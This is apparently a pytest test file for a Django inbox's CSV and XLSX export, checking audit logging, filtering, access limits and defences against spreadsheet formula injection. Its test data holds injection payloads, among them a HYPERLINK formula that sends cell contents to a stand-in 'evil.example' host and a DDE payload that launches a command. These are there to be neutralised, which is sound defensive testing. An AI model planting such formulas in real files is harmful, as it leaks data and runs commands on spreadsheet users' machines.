"""Exports from the inbox: whole, safe in a spreadsheet, and written down."""

import csv
import io
import re
import unicodedata
import zipfile
from datetime import timedelta
from xml.etree import ElementTree

import pytest
from django.utils import timezone

from editorial.text.printed import cells
from involvement.models import Submission
from involvement.records import exports
from tests.builders import make_city
from tests.html_forms import filled, form_of
from tests.involvement.admin.inbox.inbox_client import INBOX, audited
from tests.submissions import make_submission

pytestmark = pytest.mark.django_db

BLANK = ' \t\r\n"\u00a0\u200b\ufeff\u3000'
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def export(client, form="csv", *, url=INBOX, which="all", ticked=()):
    """Press a button below the list as it stands at an address."""
    sent = filled(form_of(client.get(url), "which"))
    return client.post(url, {**sent, "which": which, "row": ticked, "export": form})


def rows_of_csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cells_of_xlsx(response):
    """Return the rows of the sheet as {column: (type, text)}, and its formulas and links."""
    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows = [
        {
            cell.get("r").rstrip("0123456789"): (cell.get("t"), "".join(cell.itertext()))
            for cell in row
        }
        for row in sheet.iter(f"{MAIN}row")
    ]
    return rows, list(sheet.iter(f"{MAIN}f")) + list(sheet.iter(f"{MAIN}hyperlink"))


def test_a_csv_holds_every_column_of_a_row(client, olena):
    submission = make_submission(
        kind="hosting",
        name="松本 花子",
        email="hanako@example.org",
        phone="555-0100",
        language="ja",
        written_in="uk",
        city=make_city(name="Northtown").entry,
        message='One, "two"\nthree; four',
        details={"guests": "2"},
        state="assigned",
        assigned_to=olena,
    )

    response = export(client)

    received = timezone.localtime(submission.received_at)
    assert rows_of_csv(response) == [
        {
            "Number": submission.reference,
            "Received": f"{received:%Y-%m-%d %H:%M}",
            "State": "assigned",
            "Kind": "Hosting visitors",
            "City": "Northtown",
            "Goal": "",
            "Language of the answer": "日本語",
            "Form was in": "Українська",
            "Age": "18 or older",
            "Name": "松本 花子",
            "Email": "hanako@example.org",
            "Phone": "555-0100",
            "Message": 'One, "two"\nthree; four',
            "Details": "How many guests: 2",
            "May be shown publicly": "no",
            "Email of the guardian": "",
            "Confirmed by a guardian": "",
            "Answer by": submission.answer_by.isoformat(),
            "First answered": "",
            "Closed": "",
            "Last activity": f"{received:%Y-%m-%d %H:%M}",
            "Assigned to": "olena",
            "Reason for the hold": "",
        }
    ]


def test_a_csv_begins_with_the_mark_by_which_excel_knows_utf_8(client, olena):
    make_submission()

    assert b"".join(export(client).streaming_content).startswith(b"\xef\xbb\xbfNumber,")


@pytest.mark.parametrize(
    ("form", "kind"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_the_name_of_the_file_names_nobody_and_nothing_keeps_it(client, olena, form, kind):
    make_submission()

    response = export(client, form)
    response.close()

    assert response.headers["Content-Type"] == kind
    assert re.fullmatch(
        rf'attachment; filename="submissions-\d{{4}}-\d\d-\d\d\.{form}"',
        response.headers["Content-Disposition"],
    )
    assert "no-store" in response.headers["Cache-Control"]


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    "\u3000＝1",
    "﹦1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_is_made_text(text):
    sign = re.search("[=+@＝＋－＠﹦-]", text)[0]

    assert cells.safe(text).removeprefix("'") in {text, text.replace(sign, f"'{sign}", 1)}
    assert cells.safe(text) != text


@pytest.mark.parametrize(
    "text", ["", " ", "Лариса", "松本", "a=1", "'=1", "555-0100", "http://x.example", "'"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert cells.safe(text) == text


# Read with other separators than it was written with.
PARTED = [
    "x;=HYPERLINK(A1)",
    'a";=1+1;"b',
    "a,=1",
    "a\t=1",
    "a|@SUM(A1)",
    "one\n=1",
    "one\n\n  -1",
    "x; \u200b＝1",
    'x;"=1"',
    "x;;+1",
    "see =1+1",
    "call -1+cmd",
    "a;-b;+c;@d",
]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|", " "])
@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
@pytest.mark.parametrize("text", [*FORMULAS, *PARTED])
def test_no_cell_begins_with_a_formula_wherever_lines_are_parted(text, separator, quotes):
    line = cells.csv_line(["ABCD-EFGH", cells.safe(text), "olena"])

    rows = csv.reader(io.StringIO(line, newline=""), delimiter=separator, quoting=quotes)

    begun = [unicodedata.normalize("NFKC", cell.strip(BLANK)) for row in rows for cell in row]
    assert [cell for cell in begun if cell[:1] in {"=", "+", "-", "@"} and len(cell) > 1] == []


def test_words_with_dashes_and_addresses_stay_as_they_are():
    text = "Monday - Friday, 9-5; a@example.org (1+1=2)"

    assert cells.safe(text) == text


def test_the_longest_text_is_looked_through_at_once():
    blank = " \n" * 200_000

    assert cells.safe(f"a{blank}=1") == f"a{blank}'=1"


def test_no_cell_of_a_csv_is_a_formula(client, olena):
    for text in FORMULAS:
        make_submission(name=text, phone="+1 801 555 0100", message=text, details={text: text})

    for row in rows_of_csv(export(client)):
        for column in ("Name", "Message", "Details"):
            assert row[column].strip(BLANK).startswith("'")
        assert row["Phone"] == "'+1 801 555 0100"


def test_no_cell_of_a_sheet_is_a_formula_or_a_link(client, olena):
    texts = [*FORMULAS, "http://evil.example", "mailto:a@example.org", "internal:A1", "1e9", "0012"]
    for text in texts:
        make_submission(message=text)

    rows, active = cells_of_xlsx(export(client, "xlsx"))

    assert active == []
    assert {kind for row in rows for kind, _text in row.values()} == {"inlineStr"}
    assert len(rows) == len(texts) + 1


def test_a_sheet_holds_any_letter_and_any_length(client, olena):
    texts = ["x" * 40_000, "😀 𝔘\u0301 \u202e abc", "\x01\x0b\x1f\x7f\ufffe\uffff end", "<a>&\"'"]
    for text in texts:
        make_submission(message=text)

    rows, _active = cells_of_xlsx(export(client, "xlsx"))

    (column,) = [column for column, (_kind, text) in rows[0].items() if text == "Message"]
    messages = {row[column][1] for row in rows[1:]}
    assert "x" * 32_766 + "…" in messages
    assert {"😀 𝔘\u0301 \u202e abc", "<a>&\"'"} <= messages
    assert "_x0001__x000B__x001F_\x7f end" in messages


def test_only_the_rows_that_were_ticked_go_out(client, olena):
    one, _two, three = (make_submission() for _count in range(3))

    response = export(client, which="ticked", ticked=[one.pk, three.pk, "x", "9" * 30])

    assert {row["Number"] for row in rows_of_csv(response)} == {one.reference, three.reference}


def test_without_a_tick_nothing_goes_out(client, olena):
    make_submission()

    response = export(client, which="ticked")

    assert response.headers["Location"] == INBOX
    assert "Tick the rows" in client.get(INBOX).content.decode()
    assert "exported" not in [action for _who, action, _references, _note in audited()]


def test_all_means_all_that_the_list_is_narrowed_to_on_every_page(client, olena):
    now = timezone.now()
    wanted = [
        make_submission(kind="hosting", received_at=now - timedelta(hours=number)).reference
        for number in range(60)
    ]
    make_submission(kind="idea")
    make_submission(kind="hosting", state="closed")

    response = export(client, url=f"{INBOX}?kind=hosting")

    assert [row["Number"] for row in rows_of_csv(response)] == wanted[::-1]


def test_what_was_found_by_a_name_is_exported_without_the_name_in_an_address(client, olena):
    found = make_submission(name="Лариса Петренко", state="closed")
    make_submission()
    page = client.post(INBOX, {**filled(form_of(client.get(INBOX), "which")), "q": "Петренко"})
    form = form_of(page, "which")

    response = client.post(INBOX, {**filled(form), "which": "all", "export": "csv"})

    assert form.get("action") is None
    assert [row["Number"] for row in rows_of_csv(response)] == [found.reference]


def test_what_nobody_may_read_is_not_exported(client, olena):
    for state in (Submission.State.UNCONFIRMED, Submission.State.HELD):
        row = make_submission(age_band="young", guardian_email="a@example.org", state=state)

        for form in ({"which": "all"}, {"which": "ticked", "row": row.pk}):
            response = client.post(f"{INBOX}?state=all", {**form, "export": "csv"})
            assert rows_of_csv(response) == []


def test_each_export_is_written_down_before_it_leaves(client, olena, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 2)
    now = timezone.now()
    numbers = [
        make_submission(received_at=now + timedelta(minutes=count)).reference for count in range(3)
    ]

    export(client)

    assert audited()[1:] == [
        ("olena", "exported", numbers[:2], "csv, 1 to 2 of 3"),
        ("olena", "exported", numbers[2:], "csv, 3 to 3 of 3"),
    ]


def test_what_is_erased_while_the_file_is_sent_is_left_out(client, olena):
    submission, other = make_submission(), make_submission()
    response = export(client)

    submission.delete()

    assert [row["Number"] for row in rows_of_csv(response)] == [other.reference]


def test_an_unknown_form_is_refused(client, olena):
    make_submission()

    assert client.post(INBOX, {"which": "all", "export": "exe"}).status_code == 404
